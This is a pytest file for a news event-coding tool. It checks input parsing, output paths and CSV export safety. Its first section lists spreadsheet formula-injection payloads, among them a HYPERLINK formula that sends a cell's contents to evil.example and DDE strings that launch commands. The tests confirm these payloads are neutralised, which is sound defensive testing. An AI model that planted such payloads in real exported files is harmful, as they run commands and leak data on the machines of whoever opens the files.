"""Product review, 8th session: a demanding user's inputs and outputs, end to end.

Each test here failed before its fix: CSV cells that a spreadsheet runs as formulas (code, query,
export, dyad/network/quotes and the web twins), a navigation-only HTML page coded as an article
whose text is "Home", pretty-printed JSON on stdin or in a .jsonl file read as broken JSON Lines,
UTF-16 JSON Lines files refused line by line, and more found by using the product.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from dateline._output import csv_safe, to_csv_string
from dateline._readers import read_bytes, read_inputs, read_path
from dateline._records import Actor, Article, Event, Quote, Trigger
from dateline._store import open_store
from dateline.cli import cli

# --- (1) CSV injection: no cell may run as a spreadsheet formula ---------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_csv_safe_quotes_every_formula_start(cell) -> None:
    assert csv_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-3", "-7.5", "+1.5", "-2e-3", "Russia", "", "a=b", 5, -3.0, None])
def test_csv_safe_leaves_numbers_and_plain_text(cell) -> None:
    assert csv_safe(cell) == cell


def _hostile_article() -> Article:
    name, title, quote = FORMULAS[0], FORMULAS[3], FORMULAS[2]
    text = f"{name} attacked Eastland. {quote} said the minister."
    s = text.index(" attacked")
    src = Actor(id="QX1", name=name, kind="group", country="XXX", sector="REB", wikidata=None, text=name, span=(0, s))
    tgt = Actor(id="QE1", name="Eastland", kind="state", country="EST", sector=None, wikidata=None, text="Eastland",
                span=(text.index("Eastland"), text.index("Eastland") + 8))
    sent_end = text.index(".") + 1
    ev = Event(id="e1", type="ASSAULT", mode=None, context=[], cameo="190", quad_class=4, intensity=-9.0,
               sources=[src], targets=[tgt], date="2024-03-04", location=None, negated=False, hypothetical=False,
               sentence=text[:sent_end], span=(0, sent_end), trigger=Trigger("attacked", (s + 1, s + 9)),
               confidence=0.9, evidence="=rule")
    q0 = text.index(quote)
    art = Article(id="=evil", text=text, date="2024-03-05", title=title,
                  coder={"version": "0", "model": "m", "kb": "k", "layers": "l"})
    art.events = [ev]
    art.actors = [src, tgt]
    art.quotes = [Quote(quote, (q0, q0 + len(quote)), src, src.span, "said", "direct")]
    return art


def _cells(csv_text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(csv_text)) for c in row]


def _assert_no_formula(csv_text: str) -> None:
    cells = _cells(csv_text)
    assert cells, "no CSV written"
    bad = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _num(c))]
    assert not bad, bad
    assert any(c.startswith("'=HYPERLINK") for c in cells)  # the text is still there, shown as text


def _num(s: str) -> bool:
    try:
        float(s)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("table", ["events", "quotes", "actors", "articles"])
def test_code_csv_output_neutralises_formulas(table) -> None:
    _assert_no_formula(to_csv_string([_hostile_article()], table))


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("csvinj") / "h.duckdb"
    with open_store(path) as st:
        st.add_many([_hostile_article()])
    return path


@pytest.mark.parametrize("rows,columns,clusters", [("event", "plover", False), ("event-actor", "gdelt", False),
                                                   ("event", "plover", True)])
def test_export_csv_neutralises_formulas(hostile_db, tmp_path, rows, columns, clusters) -> None:
    out = tmp_path / "x.csv"
    args = ["export", "--db", str(hostile_db), "--rows", rows, "--columns", columns, "-o", str(out)]
    res = CliRunner().invoke(cli, args + (["--clusters"] if clusters else []), catch_exceptions=False)
    assert res.exit_code == 0, res.output
    _assert_no_formula(out.read_text(encoding="utf-8"))
    res = CliRunner().invoke(cli, args[:-2] + (["--clusters"] if clusters else []), catch_exceptions=False)
    _assert_no_formula(res.stdout)  # to stdout too


def test_query_and_analyses_csv_neutralise_formulas(hostile_db) -> None:
    r = CliRunner()
    _assert_no_formula(r.invoke(cli, ["query", "--db", str(hostile_db), "--format", "csv"]).stdout)
    _assert_no_formula(r.invoke(cli, ["network", "--db", str(hostile_db), "--format", "csv"]).stdout)
    out = r.invoke(cli, ["quotes", "--db", str(hostile_db), "--format", "csv"]).stdout
    _assert_no_formula(out)
    assert "'-2+3" in out  # the quote text itself
    out = r.invoke(cli, ["quotes", "--db", str(hostile_db), "--summary", "--format", "csv"]).stdout
    _assert_no_formula(out)


def test_web_csv_twins_neutralise_formulas(hostile_db) -> None:
    pytest.importorskip("fastapi")
    from fastapi.testclient import TestClient

    from dateline._web.app import create_app

    with TestClient(create_app(str(hostile_db))) as client:
        for url in ("/api/events?format=csv", "/api/quotes?format=csv", "/api/articles?format=csv",
                    "/api/actors?format=csv"):
            res = client.get(url)
            assert res.status_code == 200, url
            cells = _cells(res.text)
            assert not [c for c in cells if c[:1] in ("=", "+", "@")], url


# --- (2) a page with no article text is an error, not an article "Home" --------------------------

NAV_PAGES = {
    "menu and cookie banner": """<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>The Daily Planet</title>
<script>window.dataLayer=[];</script></head><body><header><a href="/">Home</a></header>
<div id="menu"><a href="/">Home</a> | <a href="/news">News</a> | <a href="/contact">Contact us</a></div>
<div id="cookie">This site uses cookies to improve your experience. <button>OK</button></div>
<main><p>Home</p></main><footer>&copy; 2024 The Daily Planet</footer></body></html>""",
    "list menu": "<html><body><ul class='menu'><li>Home</li><li>World</li></ul><div>Home</div></body></html>",
    "legal footer only": """<html><head><title>News</title></head><body><div id="cookie-consent"><p>This website uses
cookies to improve your experience.</p><button>Accept all</button></div><ul><li><a href="/">Home</a></li></ul>
<p>Copyright 2024 Example Media. All rights reserved.</p></body></html>""",
    "paywall": """<html><head><title>Subscribe</title></head><body><div class="paywall"><p>Subscribe to continue
reading.</p><p>Sign in</p></div><p>Please enable JavaScript to view this page.</p></body></html>""",
}


@pytest.mark.parametrize("name", list(NAV_PAGES))
def test_a_page_without_article_text_is_a_clear_error(tmp_path, name) -> None:
    f = tmp_path / "page.html"
    f.write_text(NAV_PAGES[name], encoding="utf-8")
    [rec] = list(read_inputs([f]))
    assert rec.error is not None and rec.error.code == "E010", rec.text
    assert "no article text found in the page" in rec.error.message and "save the article" in rec.error.message


@pytest.mark.parametrize("body", [
    "<p>Talks resumed.</p>",  # a one-line brief is an article
    "<nav><a href='/'>Home</a></nav><ul><li>Russian forces shelled Kharkiv on Monday, killing five civilians.</li>"
    "<li>Ukraine said it had repelled an attack near Bakhmut.</li></ul>",  # a bulleted article
    "<nav><a href='/'>Home</a><a href='/w'>World</a></nav><article><h1>Talks resume</h1><p>Japan and South Korea "
    "agreed on Friday to resume talks, officials in Tokyo said.</p></article><footer>Home</footer>",
])
def test_short_real_articles_are_still_read(tmp_path, body) -> None:
    f = tmp_path / "page.html"
    f.write_text(f"<html><head><title>T</title></head><body>{body}</body></html>", encoding="utf-8")
    [rec] = list(read_inputs([f]))
    assert rec.error is None and rec.text and "Home" not in rec.text


ARTICLE = "<article><p>Japan and South Korea agreed on Friday to resume talks on trade, officials said.</p></article>"


def test_a_copyright_year_is_not_the_article_date(tmp_path) -> None:
    f = tmp_path / "page.html"
    f.write_text(f"<html><head><title>T</title></head><body>{ARTICLE}<footer>Copyright 2024 Example Media."
                 "</footer></body></html>", encoding="utf-8")
    [rec] = list(read_inputs([f], date="2022-02-04"))
    assert rec.error is None and rec.date == "2022-02-04"  # --date, not 2024-01-01
    assert "2024" in rec.warnings[0] and "--date" in rec.warnings[0]


@pytest.mark.parametrize("head,body", [
    ('<meta property="article:published_time" content="2022-02-04T10:00:00Z">', ""),
    ("", '<p class="byline"><time datetime="2022-02-04">4 February 2022</time></p>'),
    ("", "<p>Published 4 February 2022</p>"),
])
def test_page_dates_are_still_read(tmp_path, head, body) -> None:
    f = tmp_path / "page.html"
    f.write_text(f"<html><head><title>T</title>{head}</head><body>{body}{ARTICLE}<footer>Copyright 2024</footer>"
                 "</body></html>", encoding="utf-8")
    [rec] = list(read_inputs([f]))
    assert rec.date == "2022-02-04" and not rec.warnings


# --- (3) pretty-printed JSON on stdin and in files ------------------------------------------------

ONE = {"id": "p1", "date": "2022-02-04", "text": "Japan and South Korea agreed to resume talks."}
TWO = {"id": "p2", "text": "Protesters marched in Paris."}


def _stdin(data: bytes) -> list:
    return list(read_inputs(["-"], stdin=io.BytesIO(data)))


def _file(tmp_path: Path, name: str, data: bytes) -> list:
    f = tmp_path / name
    f.write_bytes(data)
    return list(read_inputs([f]))


@pytest.mark.parametrize("payload", [
    json.dumps(ONE, indent=2),                                      # one object
    json.dumps([ONE, TWO], indent=2),                               # an array
    json.dumps(ONE, indent=2) + "\n" + json.dumps(TWO, indent=2),   # objects one after another (jq .)
    json.dumps({"articles": [ONE, TWO]}, indent=1),
])
@pytest.mark.parametrize("where", ["stdin", "x.json", "x.jsonl", "x.jsonl.gz", "noext"])
def test_pretty_printed_json_is_read(tmp_path, payload, where) -> None:
    import gzip

    data = payload.encode()
    if where == "stdin":
        recs = _stdin(data)
    else:
        recs = _file(tmp_path, where, gzip.compress(data) if where.endswith(".gz") else data)
    want = ["p1"] if payload.count('"id"') == 1 else ["p1", "p2"]
    assert [r.id for r in recs] == want and all(r.error is None for r in recs), [r.error for r in recs]
    assert recs[0].date == "2022-02-04" and recs[0].text == ONE["text"]


@pytest.mark.parametrize("where", ["stdin", "x.json", "x.jsonl"])
def test_broken_pretty_json_says_where_and_what_to_give(tmp_path, where) -> None:
    data = b'{\n  "id": "b1",\n  "text": "Talks resumed.",\n}\n'  # trailing comma
    recs = _stdin(data) if where == "stdin" else _file(tmp_path, where, data)
    assert len(recs) == 1, [r.error for r in recs]  # one error, not one per line
    msg = recs[0].error.message
    assert recs[0].error.code == "E012" and "line 4, column 1" in msg
    assert "one JSON object, a JSON array of objects, or JSON Lines" in msg


def test_records_before_a_json_error_are_kept(tmp_path) -> None:
    data = (json.dumps(ONE, indent=2) + '\n{\n "id": "x" "text": "y"\n}\n').encode()
    recs = _file(tmp_path, "x.json", data)
    assert recs[0].id == "p1" and recs[0].error is None
    assert recs[1].error is not None and "line 7" in recs[1].error.message and "1 record(s) before" in recs[1].error.message


@pytest.mark.parametrize("where", ["stdin", "x.jsonl", "x.json"])
def test_json_lines_with_a_broken_line_still_go_on(tmp_path, where) -> None:
    data = b'{"id": "x", "text": "a\n{"id": "y", "text": "Talks resumed."}\n{"id": "z", "text": "Talks ended."}\n'
    recs = _stdin(data) if where == "stdin" else _file(tmp_path, where, data)
    assert [r.id for r in recs][1:] == ["y", "z"] and recs[0].error is not None
    assert "line 1, column" in recs[0].error.message and " at;" not in recs[0].error.message


# --- (4) UTF-16 and UTF-32 files -------------------------------------------------------------------

JSONL = '{"id": "u1", "text": "Talks resumed in Geneva."}\n{"id": "u2", "text": "Protesters marched in Paris."}\n'


@pytest.mark.parametrize("enc", ["utf-16", "utf-16-le-bom", "utf-16-be-bom", "utf-32"])
@pytest.mark.parametrize("where", ["x.jsonl", "x.txt", "x.json", "stdin"])
def test_utf16_and_utf32_with_a_byte_order_mark_are_read(tmp_path, enc, where) -> None:
    text = JSONL if where != "x.txt" else "date 2022-02-04\nTalks resumed in Geneva.\n"
    if enc == "utf-16-le-bom":
        data = b"\xff\xfe" + text.encode("utf-16-le")
    elif enc == "utf-16-be-bom":
        data = b"\xfe\xff" + text.encode("utf-16-be")
    else:
        data = text.encode(enc)
    recs = _stdin(data) if where == "stdin" else _file(tmp_path, where, data)
    assert all(r.error is None for r in recs), [str(r.error) for r in recs]
    if where == "x.txt":
        assert [(r.date, r.text) for r in recs] == [("2022-02-04", "Talks resumed in Geneva.")]
    else:
        assert [r.id for r in recs] == ["u1", "u2"]


@pytest.mark.parametrize("enc,name", [("utf-16-le", "UTF-16LE"), ("utf-16-be", "UTF-16BE")])
@pytest.mark.parametrize("where", ["x.jsonl", "x.txt", "stdin"])
def test_utf16_without_a_byte_order_mark_says_how_to_convert(tmp_path, enc, name, where) -> None:
    data = JSONL.encode(enc)
    recs = _stdin(data) if where == "stdin" else _file(tmp_path, where, data)
    assert len(recs) == 1 and recs[0].error is not None and recs[0].error.code == "E011"
    assert name in recs[0].error.message and f"iconv -f {name} -t UTF-8" in recs[0].error.message


# --- span integrity through every input container --------------------------------------------------

from hypothesis import given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402
from test_product_r7 import _spans, _without_some_marks  # noqa: E402

BASES8 = [
    "Russian troops shelled the Ukrainian city of Kharkiv on Monday, killing 12 civilians, officials said.",
    '"We will not surrender," Ukrainian President Volodymyr Zelensky said on Tuesday in Kyiv.',
    "\u201cNever.\u201d \u201cThe sanctions are illegal,\u201d \u201cWe will respond.\u201d",  # only quotes
    "Le pr\u00e9sident Emmanuel Macron a rencontr\u00e9 Olaf Scholz \u00e0 Berlin mardi.",  # not English
    "The EU pledged \u20ac500 million in aid to Sudan last week; Brussels said Khartoum agreed.",
]
JUNK8 = ["\u200b", "\u200d", "\u202e", "\u2066", "\u2069", "\x00", "\r\n", "\r", "\t", "\u00a0", "\u00ad",
         "\U0001F525", "\U0001F1FA\U0001F1E6", "\u201c", "\u201d", "\u2014", "\u0301", " ", "\n\n", "'", '"',
         "\u00ab", "\u00bb", "<b>", "&amp;", "=", "\u0644\u0627", "\u4e2d"]


def _container(kind: str, texts: list[str]) -> tuple[str, bytes]:
    if kind == "jsonl":  # Windows line endings between records
        return "x.jsonl", "\r\n".join(json.dumps({"id": f"r{i}", "date": "2022-02-04", "text": t})
                                      for i, t in enumerate(texts)).encode()
    if kind == "json":
        return "x.json", json.dumps([{"id": f"r{i}", "text": t} for i, t in enumerate(texts)], indent=2).encode()
    if kind == "csv":
        buf = io.StringIO()
        w = csv.writer(buf)
        w.writerow(["id", "body"])
        w.writerows([f"r{i}", t] for i, t in enumerate(texts))
        return "x.csv", buf.getvalue().encode("utf-8-sig")
    if kind == "utf16":
        return "x.txt", ("date 2022-02-04\r\n" + texts[0]).encode("utf-16")
    import html

    return "x.html", (f"<html><head><title>T</title></head><body><nav><a href='/'>Home</a></nav><article>"
                      + "".join(f"<p>{html.escape(t)}</p>" for t in texts) + "</article></body></html>").encode()


@settings(max_examples=12)
@given(st.sampled_from(["jsonl", "json", "csv", "utf16", "html"]),
       st.lists(st.tuples(st.integers(0, len(BASES8) - 1),
                          st.lists(st.tuples(st.integers(0, 200), st.sampled_from(JUNK8)), max_size=6)),
                min_size=1, max_size=3))
def test_every_span_indexes_the_text_read_from_every_container(pipeline, tmp_path_factory, kind, docs) -> None:
    texts = []
    for base, inserts in docs:
        t = BASES8[base] + " " + BASES8[(base + 1) % len(BASES8)]
        for pos, junk in sorted(inserts, reverse=True):
            t = t[:min(pos, len(t))] + junk + t[min(pos, len(t)):]
        texts.append(t)
    name, data = _container(kind, texts)
    f = tmp_path_factory.mktemp("c") / name
    f.write_bytes(data)
    recs = list(read_inputs([f]))
    assert recs and all(r.error is None for r in recs), [str(r.error) for r in recs]
    if kind in ("jsonl", "json", "csv"):
        assert [r.text for r in recs] == [t.rstrip() for t in texts]  # the text as given, no more
    for art in pipeline.code_records(recs):
        d = json.loads(json.dumps(art.to_dict(), ensure_ascii=False))
        assert not d["errors"] and not [w for w in d.get("warnings", []) if "failed" in w], d
        text = d["text"]
        for path, span, want in _spans({k: d[k] for k in ("events", "quotes", "actors", "times", "amounts", "places")}):
            if span is None:
                continue
            s, e = span
            assert 0 <= s <= e <= len(text), (path, span, len(text))
            if want is not None and ".quotes[" in path and path.endswith("].span"):
                assert _without_some_marks(text[s:e], want), (path, text[s:e], want)
            elif want is not None:
                assert text[s:e] == want, (path, span, text[s:e], want)
        for ev in d["events"]:
            assert text[ev["span"][0]:ev["span"][1]] == ev["sentence"]


# --- text that is not English is coded, with a warning that says why it yields little -------------

@pytest.mark.parametrize("text", [
    "Le pr\u00e9sident Emmanuel Macron a rencontr\u00e9 Olaf Scholz \u00e0 Berlin mardi pour discuter de la guerre "
    "en Ukraine et de la situation au Proche-Orient.",
    "Der Bundeskanzler traf am Dienstag den franz\u00f6sischen Pr\u00e4sidenten in Berlin zu Gespr\u00e4chen \u00fcber "
    "den Krieg in der Ukraine und die Lage im Nahen Osten.",
    "\u4e60\u8fd1\u5e73\u5468\u4e94\u5728\u5317\u4eac\u4f1a\u89c1\u4e86\u666e\u4eac\u3002\u4e2d\u4fc4\u4e24\u56fd\u9886"
    "\u5bfc\u4eba\u5c31\u53cc\u8fb9\u5173\u7cfb\u548c\u5171\u540c\u5173\u5fc3\u7684\u56fd\u9645\u95ee\u9898\u6df1"
    "\u5165\u4ea4\u6362\u610f\u89c1\u3002",
])
def test_text_that_is_not_english_is_warned(text) -> None:
    [rec] = list(read_bytes(json.dumps({"text": text}).encode(), "x.jsonl", ".jsonl"))
    from dateline._readers import _finish

    rec = _finish(rec, 10**6, None)
    assert rec.error is None and any("English" in w and "translate" in w for w in rec.warnings)


def test_a_record_language_other_than_english_is_warned_and_english_is_not() -> None:
    from dateline._readers import as_record

    assert any("'de'" in w for w in as_record({"text": "Talks resumed.", "language": "de"}).warnings)
    assert not as_record({"text": "Talks resumed.", "language": "en-GB"}).warnings


@pytest.mark.parametrize("text", [
    "Chinese coast guard ships blocked Filipino boats near Huangyan Island on Monday.",
    "VILNIUS, June 4 - Lithuanian Foreign Minister Gabrielius Landsbergis met Latvian Foreign Minister Krisjanis "
    "Karins in Riga on Tuesday.",
    "Kenya, Uganda, Tanzania, Rwanda, Burundi, South Sudan, DR Congo and Somalia signed a customs pact.",
])
def test_short_headline_like_english_is_not_warned(text) -> None:
    from dateline._readers import as_record

    assert not as_record(text).warnings


def test_no_english_gold_or_demo_text_is_warned() -> None:
    gold = sorted(Path(__file__).parent.glob("gold/*.jsonl"))
    demo = Path(__file__).parent.parent / "src" / "dateline" / "data" / "demo"
    recs = list(read_inputs([*gold, demo]))
    assert len(recs) > 300
    assert not [r.id for r in recs if any("English" in w for w in r.warnings)]


# --- --output: refused before coding when it cannot be right; .gz compresses -----------------------

def _run(args: list[str], input: str | None = None):
    return CliRunner().invoke(cli, args, input=input, catch_exceptions=False)


@pytest.mark.parametrize("name,want", [
    ("missing/dir/x.jsonl", "does not exist; create it first"),
    ("x.xlsx", "name the file .jsonl, .json, .csv or .parquet"),
    ("x.parquet.gz", "Parquet is compressed already"),
])
def test_an_output_that_cannot_be_right_is_a_usage_error(tmp_path, name, want) -> None:
    f = tmp_path / "in.txt"
    f.write_text("Talks resumed.")
    res = _run(["code", "-j", "1", str(f), "-o", str(tmp_path / name)])
    assert res.exit_code == 2 and want in res.output, res.output
    assert not (tmp_path / name).exists()


def test_demo_output_in_a_missing_folder_is_a_usage_error(tmp_path) -> None:
    res = _run(["demo", "-o", str(tmp_path / "no" / "d.jsonl")])
    assert res.exit_code == 2 and "create it first" in res.output


def test_an_output_that_cannot_be_opened_is_a_usage_error_not_a_traceback(tmp_path, monkeypatch) -> None:
    import builtins

    f = tmp_path / "in.txt"
    f.write_text("Talks resumed.")
    out = str(tmp_path / "x.jsonl")
    real_open = builtins.open

    def no_write(file, mode="r", *a, **kw):
        if str(file) == out and "w" in mode:
            raise PermissionError(13, "Permission denied", out)
        return real_open(file, mode, *a, **kw)

    monkeypatch.setattr(builtins, "open", no_write)
    res = CliRunner().invoke(cli, ["code", "-j", "1", str(f), "-o", out])
    assert res.exit_code == 2 and "cannot write it (Permission denied)" in res.output, res.output


@pytest.mark.parametrize("name,fmt", [("x.jsonl.gz", "jsonl"), ("x.csv.gz", "csv"), ("x.json.gz", "json")])
def test_a_gz_output_is_compressed_in_the_format_its_name_gives(nlp, tmp_path, name, fmt) -> None:
    import gzip

    f = tmp_path / "in.txt"
    f.write_text("date 2022-02-04 Russia accused Ukraine of shelling Donetsk on Monday.")
    res = _run(["code", "-j", "1", str(f), "-o", str(tmp_path / name)])
    assert res.exit_code == 0, res.output
    body = gzip.decompress((tmp_path / name).read_bytes()).decode()
    if fmt == "csv":
        assert body.startswith("article_id,") and "ACCUSE" in body
    elif fmt == "json":
        assert json.loads(body)[0]["date"] == "2022-02-04"
    else:
        assert json.loads(body.splitlines()[0])["date"] == "2022-02-04"
    assert [r.date for r in read_path(tmp_path / name)] != []  # and dateline reads it back


def test_export_format_follows_the_output_name_and_bad_outputs_are_refused(hostile_db, tmp_path) -> None:
    import pyarrow.parquet as pq

    out = tmp_path / "e.parquet"
    res = _run(["export", "--db", str(hostile_db), "-o", str(out)])
    assert res.exit_code == 0 and pq.read_table(out).num_rows == 1  # Parquet, not CSV under a .parquet name
    out = tmp_path / "e.jsonl"
    assert _run(["export", "--db", str(hostile_db), "-o", str(out)]).exit_code == 0
    assert json.loads(out.read_text().splitlines()[0])["event_type"] == "ASSAULT"
    res = _run(["export", "--db", str(hostile_db), "-o", str(tmp_path / "no" / "e.csv")])
    assert res.exit_code == 2 and "create it first" in res.output
    res = _run(["export", "--db", str(hostile_db), "-o", str(tmp_path / "e.xlsx")])
    assert res.exit_code == 2 and ".csv" in res.output and not (tmp_path / "e.xlsx").exists()


# --- ingest: raw articles are refused with the way out; code's JSON output is read ----------------

def test_ingest_refuses_raw_articles_with_the_command_that_codes_them(tmp_path) -> None:
    raw = tmp_path / "raw.jsonl"
    raw.write_text('{"id": 1, "date": 1643932800, "text": "Talks resumed."}\n"a string"\n')
    res = CliRunner().invoke(cli, ["ingest", "--db", str(tmp_path / "s.duckdb"), str(raw)])
    assert res.exit_code == 1, res.output
    assert res.exception is None or isinstance(res.exception, SystemExit), repr(res.exception)
    assert "not dateline code output" in res.output and "dateline code FILE --db" in res.output
    assert "a JSON string, not an article" in res.output


def test_ingest_reads_code_json_array_output(tmp_path) -> None:
    f = tmp_path / "coded.json"
    f.write_text(json.dumps([_hostile_article().to_dict()], indent=1))
    res = _run(["ingest", "--db", str(tmp_path / "s.duckdb"), str(f)])
    assert res.exit_code == 0 and "stored 1 articles" in res.output


def test_a_chart_in_a_missing_folder_is_a_usage_error(hostile_db, tmp_path) -> None:
    res = CliRunner().invoke(cli, ["network", "--db", str(hostile_db), "--chart", str(tmp_path / "no" / "n.svg")])
    assert res.exit_code == 2 and "create it first" in res.output, res.output
    assert res.exception is None or isinstance(res.exception, SystemExit), repr(res.exception)


# --- field names as spreadsheets and scrapers write them -------------------------------------------

def test_capitalised_and_spaced_field_names_are_found() -> None:
    data = b'\xef\xbb\xbfID,Headline,Text,Publish Date\r\n7,Talks,"Kenya and Uganda signed a deal.",2022-02-04\r\n'
    [rec] = list(read_bytes(data, "x.csv", ".csv"))
    assert (rec.error, rec.id, rec.title, rec.text, rec.date) == (None, "7", "Talks", "Kenya and Uganda signed a deal.",
                                                                  "2022-02-04")
    [rec] = list(read_bytes(b'{"Body": "Talks resumed.", "Date": "2022-02-04", "Extra": 1}', "x.jsonl", ".jsonl"))
    assert (rec.text, rec.date, rec.meta) == ("Talks resumed.", "2022-02-04", {"Extra": 1})


def test_the_article_page_shows_warnings(tmp_path) -> None:
    pytest.importorskip("fastapi")
    from fastapi.testclient import TestClient

    from dateline._web.app import create_app

    art = Article(id="fr", text="Le pr\u00e9sident a rencontr\u00e9 le chancelier.", coder={"version": "0"},
                  warnings=["x.jsonl:1: the text does not look like English; translate it <first>"])
    path = tmp_path / "w.duckdb"
    with open_store(path) as st:
        st.add(art)
    with TestClient(create_app(str(path))) as client:
        page = client.get("/articles/fr").text
    assert 'class="warning-message"' in page and "translate it &lt;first&gt;" in page


# --- evaluate --predictions: a file that does not match the gold is said so ------------------------

def test_evaluate_warns_when_predictions_miss_gold_articles(tmp_path) -> None:
    gold = tmp_path / "g.jsonl"
    gold.write_text(json.dumps({"id": "g1", "text": "Russia accused Ukraine.", "events": []}) + "\n")
    pred = tmp_path / "p.jsonl"
    pred.write_text(json.dumps(_hostile_article().to_dict()) + "\n")
    res = CliRunner().invoke(cli, ["evaluate", str(gold), "--predictions", str(pred)])
    assert res.exit_code == 0 and "1 of 1 gold articles have no prediction" in res.output, res.output
    pred.write_text("id,text\n")
    res = CliRunner().invoke(cli, ["evaluate", str(gold), "--predictions", str(pred)])
    assert res.exit_code == 2 and "takes dateline code's JSON Lines output" in res.output, res.output


# --- CSV piped to stdin is read as a table, not coded as one story ---------------------------------

@pytest.mark.parametrize("data,want", [
    (b'id,body,published\n1,"Kenya and Uganda signed a deal.",2022-02-04\n', [("Kenya and Uganda signed a deal.", "2022-02-04")]),
    (b'\xef\xbb\xbfID\tText\r\n1\tTalks resumed.\r\n', [("Talks resumed.", None)]),
    (b"Russia, Ukraine and Belarus met in Minsk, officials said.", [("Russia, Ukraine and Belarus met in Minsk, officials said.", None)]),
    (b"Text, as they say, matters.\nMore text.", [("Text, as they say, matters.\nMore text.", None)]),
    (b"Text,body\n", [("Text,body", None)]),  # a header without rows is a (short) story
])
def test_csv_on_stdin_is_a_table(data, want) -> None:
    assert [(r.text, r.date) for r in _stdin(data)] == want


def test_html_markup_in_a_text_field_is_warned() -> None:
    from dateline._readers import as_record

    w = as_record({"content": "<p>Russia <b>attacked</b> Ukraine on Monday.</p>"}).warnings
    assert len(w) == 1 and "HTML markup (<b>, <p>)" in w[0] and ".html file" in w[0]
    assert not as_record("Shares rose 3% as x<y and y>z, a <b> grade.").warnings


def test_an_empty_folder_says_so(tmp_path) -> None:
    (tmp_path / "d" / ".git").mkdir(parents=True)
    (tmp_path / "d" / ".git" / "config").write_text("x")
    [rec] = list(read_inputs([tmp_path / "d"]))
    assert rec.error is not None and rec.error.code == "E010" and "has no files to read" in rec.error.message


def test_serve_refuses_a_file_that_is_not_a_store_with_exit_status_2(tmp_path) -> None:
    pytest.importorskip("fastapi")
    f = tmp_path / "x.jsonl"
    f.write_text('{"id": "a", "text": "Talks resumed."}\n')
    res = CliRunner().invoke(cli, ["serve", "--db", str(f)])
    assert res.exit_code == 2 and "[E043]" in res.output, res.output


@pytest.mark.parametrize("sep", [";", "|", "\t", ","])
def test_csv_split_by_semicolons_or_bars_is_read(sep) -> None:
    data = f'id{sep}text{sep}date\r\n1{sep}"Kenya and Uganda signed a deal, officials said."{sep}2022-02-04\r\n'.encode()
    [rec] = list(read_bytes(data, "x.csv", ".csv"))
    assert (rec.error, rec.text, rec.date) == (None, "Kenya and Uganda signed a deal, officials said.", "2022-02-04")
    [rec] = _stdin(data)
    assert rec.text == "Kenya and Uganda signed a deal, officials said."


def test_evaluate_on_a_file_without_annotations_says_so(tmp_path) -> None:
    f = tmp_path / "raw.jsonl"
    f.write_text(json.dumps({"id": "a", "text": "Talks resumed."}) + "\n")
    res = CliRunner().invoke(cli, ["evaluate", str(f), "--predictions", str(f)])
    assert res.exit_code == 2 and "no annotations to score against" in res.output, res.output
